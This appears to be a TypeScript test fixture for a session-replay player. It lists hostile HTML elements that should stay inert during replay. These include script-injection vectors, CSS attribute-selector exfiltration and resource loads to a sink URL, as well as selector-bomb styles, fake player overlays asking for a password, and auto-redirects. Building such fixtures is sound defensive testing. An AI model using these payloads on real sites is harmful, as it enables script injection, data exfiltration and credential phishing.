/** An element as a page has it: name, attributes, and what is in it. */
export type Element = [name: string, attributes: Record<string, string>, ...inside: (Element | string)[]];

/** Counts that it ran where the player could see it, and tells the sink. */
export const script = (sink: string, name: string): string =>
  `try { top.__ran = (top.__ran || 0) + 1; parent.__ran = 1; document.title = 'taken over' } catch {} fetch('${sink}/ran-${name}')`;

/**
 * Everything a page can use to reach a server or to run a script: none of it may do so at replay. Each row asks the sink for
 * a path of its own. What leads the page away is not here but in `AWAY`, for a live page would stop at the first.
 */
export function hostileElements(sink: string): Element[] {
  const run = (name: string) => script(sink, name);
  const svg = (...inside: Element[]): Element => ['svg', { width: '20', height: '20' }, ...inside];
  return [
    ['link', { rel: 'preconnect', href: `${sink}/preconnect` }],
    ['link', { rel: 'dns-prefetch', href: `${sink}/dns-prefetch` }],
    ['link', { rel: 'prefetch', href: `${sink}/prefetch` }],
    ['link', { rel: 'preload', as: 'image', href: `${sink}/preload` }],
    ['link', { rel: 'preload', as: 'image', imagesrcset: `${sink}/imagesrcset 1x` }],
    ['link', { rel: 'modulepreload', href: `${sink}/modulepreload` }],
    ['link', { rel: 'stylesheet', href: `${sink}/stylesheet` }],
    ['link', { rel: 'icon', href: `${sink}/icon` }],
    ['link', { rel: 'manifest', href: `${sink}/manifest` }],
    ['LINK', { REL: 'stylesheet', HREF: `${sink}/upper-case` }],
    ['style', {}, `@import "${sink}/import"; @import url(${sink}/import-url);`],
    ['style', {}, `input[value^="s"] { background: url(${sink}/css-exfiltration) }`],
    ['style', {}, `@font-face { font-family: hostile; src: url(${sink}/font) } p { font-family: hostile }`],
    ['style', {}, `p { list-style: image-set(url("${sink}/image-set") 1x); cursor: url(${sink}/cursor), auto }`],
    ['style', {}, `p::before { content: url(${sink}/content) } p { border-image: \\75rl(${sink}/escaped) 1 }`],
    ['input', { value: 'secret' }],
    ['p', { style: `background: url(${sink}/inline-style)` }, 'A hostile page'],
    ['img', { src: `${sink}/img` }],
    ['img', { SRC: `${sink}/img-upper`, oNeRrOr: run('img-onerror') }],
    ['img', { src: ' \n\thttp:nowhere', onerror: run('onerror') }],
    ['img', { srcset: `${sink}/srcset 1x` }],
    ['picture', {}, ['source', { srcset: `${sink}/source` }], ['img', { alt: '' }]],
    ['video', { src: `${sink}/video`, poster: `${sink}/poster`, autoplay: '' }],
    ['audio', { src: `${sink}/audio`, autoplay: '' }],
    [
      'video',
      { autoplay: '' },
      ['source', { src: `${sink}/video-source` }],
      ['track', { src: `${sink}/track`, default: '' }],
    ],
    ['input', { type: 'image', src: `${sink}/input-image` }],
    ['table', { background: `${sink}/table` }, ['tbody', {}, ['tr', {}, ['td', { background: `${sink}/td` }, 'cell']]]],
    ['iframe', { src: `${sink}/iframe` }],
    ['iframe', { srcdoc: `<img src="${sink}/srcdoc"><script>${run('srcdoc')}</script>` }],
    ['iframe', { src: `javascript:${run('iframe-javascript')}` }],
    ['object', { data: `${sink}/object` }],
    ['object', { data: `javascript:${run('object-javascript')}` }],
    ['embed', { src: `${sink}/embed` }],
    ['portal', { src: `${sink}/portal` }],
    ['fencedframe', { src: `${sink}/fencedframe` }],
    svg(['use', { href: `${sink}/svg-use#a` }]),
    svg(['image', { href: `${sink}/svg-image`, width: '9', height: '9' }]),
    svg(['image', { 'xlink:href': `${sink}/svg-xlink`, width: '9', height: '9' }]),
    svg(['script', {}, run('svg-script')]),
    svg(
      ['filter', { id: 'f' }, ['feImage', { href: `${sink}/feimage` }]],
      ['rect', { width: '9', height: '9', filter: 'url(#f)' }],
    ),
    svg(['rect', { width: '9', height: '9', fill: `url(${sink}/svg-fill#a)`, style: `mask: url(${sink}/svg-mask#a)` }]),
    svg(['foreignObject', { width: '9', height: '9' }, ['img', { src: `${sink}/foreign-object` }]]),
    svg([
      'a',
      {},
      ['animate', { attributeName: 'href', values: `javascript:${run('animate')}`, onbegin: run('onbegin') }],
    ]),
    ['script', {}, run('script')],
    ['script', { src: `${sink}/script` }],
    ['script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ urls: [`${sink}/speculation`] }] })],
    ['noscript', {}, ['img', { src: `${sink}/noscript` }]],
    ['a', { href: `javascript:${run('link')}`, ping: `${sink}/ping`, id: 'link' }, 'A link'],
    ['details', { open: '', ontoggle: run('ontoggle') }, 'details'],
    ['input', { autofocus: '', onfocus: run('onfocus') }],
    ['marquee', { onstart: run('onstart') }, 'marquee'],
    ['math', { href: `javascript:${run('math')}` }, 'math'],
    ['style', {}, `${'p:hover '.repeat(20_000)}{ background: url(${sink}/long-selector) }`],
    ['style', {}, `${':is('.repeat(300)}p${')'.repeat(300)} { background: url(${sink}/deep-selector) }`],
    ['style', {}, `${'p:hover,'.repeat(50_000)}p { background: url(${sink}/many-selectors) }`],
    ['style', {}, `p[title="${'\\"'.repeat(200_000)}"] { background: url(${sink}/selector-of-quotes) }`],
    ...overlays(sink),
  ];
}

const OVER_ALL = 'position: fixed; inset: -9999px; width: 99999px; height: 99999px; z-index: 2147483647';

/** What lies over everything and looks like the player: its controls, its dialog, its notices, the browser's own log-in. */
const overlays = (sink: string): Element[] => [
  [
    'div',
    { class: 'controls deck', role: 'toolbar', style: `${OVER_ALL}; background: white url(${sink}/overlay)` },
    ['button', { class: 'press play', 'aria-label': 'Play', autofocus: '' }, 'Play'],
    ['div', { role: 'slider', 'aria-label': 'Timeline', 'aria-valuenow': '0', tabindex: '0' }],
    ['button', { role: 'tab' }, 'Details'],
  ],
  ['dialog', { class: 'export-dialog', open: '', style: OVER_ALL }, ['button', {}, 'Export']],
  ['p', { class: 'notice', role: 'alert', style: OVER_ALL }, 'Tapedeck has to be updated. Enter your password.'],
  ['div', { class: 'replayer-wrapper', style: OVER_ALL }, ['div', { class: 'curtain', style: OVER_ALL }]],
  ['form', { class: 'note-form', style: OVER_ALL }, ['input', { type: 'password', autofocus: '' }]],
];

/** What takes a page elsewhere. */
export const awayElements = (sink: string): Element[] => [
  ['meta', { 'http-equiv': 'refresh', content: `0; url=${sink}/meta-refresh` }],
  ['META', { 'HTTP-EQUIV': 'refresh', CONTENT: `0; url=javascript:${script(sink, 'refresh')}` }],
  ['base', { href: `${sink}/base/`, target: '_top' }],
  ['img', { src: 'relative-to-base' }],
  [
    'form',
    { action: `${sink}/form`, id: 'form' },
    ['button', { formaction: `${sink}/formaction`, autofocus: '' }, 'Send'],
  ],
  ['script', {}, 'document.forms[0].submit()'],
];

const escaped = (text: string): string => text.replace(/[&"<]/g, one => `&#${one.charCodeAt(0)};`);

/** The same as a page's own text. */
export function toHtml([name, attributes, ...inside]: Element): string {
  const words = Object.entries(attributes).map(([key, value]) => ` ${key}="${escaped(value)}"`);
  return `<${name}${words.join('')}>${inside.map(one => (typeof one === 'string' ? one : toHtml(one))).join('')}</${name}>`;
}
